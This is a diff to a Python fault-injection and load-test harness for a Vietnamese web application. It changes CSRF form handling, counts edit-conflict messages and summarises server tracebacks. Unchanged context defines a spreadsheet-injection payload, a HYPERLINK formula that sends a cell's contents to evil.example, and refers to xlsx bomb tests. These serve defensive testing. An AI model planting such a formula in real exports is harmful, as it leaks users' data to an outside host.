@@ -53,6 +53,7 @@ ROOT = Path(__file__).resolve().parent.parent
 OUT = ROOT / "bench" / "faults.json"
 DEMO_PASSWORD = "Demo@2025"  # noqa: S105 - published in the README for the demo accounts
 ENGLISH = ("Internal Server Error", "Traceback", "Service Unavailable", "Bad Gateway")
+CONFLICT = "đã cập nhật nhiệm vụ này trong lúc bạn đang soạn"
 EVIL = '=HYPERLINK("http://evil.example/?d="&C5,"Xem")'
 
 
@@ -294,11 +295,11 @@ class Load:
             page = browser.request(path)
             self.note(username, f"GET /offices/{office}/tasks/…/update", page)
             form = form_with(page.body, "based_on")
-            if form is not None:
-                self.forms[username] = (form["attrs"].get("action") or path, form)
-        if username not in self.forms:
+            if form is not None:  # per browser: its CSRF token belongs to its session
+                self.forms[id(browser)] = (form["attrs"].get("action") or path, form)
+        if id(browser) not in self.forms:
             return
-        action, form = self.forms[username]
+        action, form = self.forms[id(browser)]
         text = f"faults {username} lần {i} {time.monotonic():.3f}"
         answer = browser.request(
             action,
@@ -433,6 +434,7 @@ def table_lock(base: str, cluster: Cluster, seconds: int = 40) -> dict:
             "answers": len(saves),
             "statuses": dict(Counter(a.status for a in saves)),
             "busy_pages": sum("Hệ thống đang bận" in a.body for a in saves),
+            "conflicts_told": sum(CONFLICT in a.body for a in saves if a.status == 200),
             "p50_ms": pct([a.seconds for a in saves], 0.5),
             "max_ms": pct([a.seconds for a in saves], 1.0),
         },
@@ -805,6 +807,24 @@ def in_process_bombs() -> dict:
     return results
 
 
+def server_errors(text: str) -> list[str]:
+    """Each distinct traceback of the server log (its last lines), and gunicorn's own errors."""
+    found: Counter = Counter()
+    lines = text.splitlines()
+    for n, line in enumerate(lines):
+        if line.startswith("Traceback"):
+            block = []
+            for follow in lines[n + 1 : n + 200]:
+                if follow and not follow.startswith((" ", "Traceback", "[SQL", "[param", "(Back")):
+                    block.append(follow.strip()[:200])
+                    break
+                block.append(follow.strip()[:200])
+            found[" | ".join(block[-4:])] += 1
+        elif "[ERROR]" in line or "WORKER TIMEOUT" in line:
+            found[line.strip()[:200]] += 1
+    return [f"{count} × {text}" for text, count in found.most_common(10)]
+
+
 def check(results: dict) -> list[str]:
     missed = []
     o = results["outage"]
@@ -825,7 +845,7 @@ def check(results: dict) -> list[str]:
     if lock["all"]["english"] or results["worker_timeouts"]:
         missed.append("lock: English answers or killed workers")
     saves = lock["saves_needing_the_table"]
-    if saves["answers"] and saves["busy_pages"] != saves["answers"]:
+    if saves["answers"] and saves["busy_pages"] + saves["conflicts_told"] != saves["answers"]:
         missed.append(f"lock: saves did not fail cleanly {saves['statuses']}")
     verify = results["verify"]
     if verify["fields_400000"]["seconds_max"] > 1:
@@ -882,6 +902,7 @@ def main() -> int:
             text = log.read_text(errors="replace")
             results["worker_timeouts"] = text.count("WORKER TIMEOUT")
             results["server_tracebacks"] = text.count("Traceback")
+            results["server_errors"] = server_errors(text)
         results["xlsx_bombs_in_process"] = in_process_bombs()
     finally:
         cluster.remove()
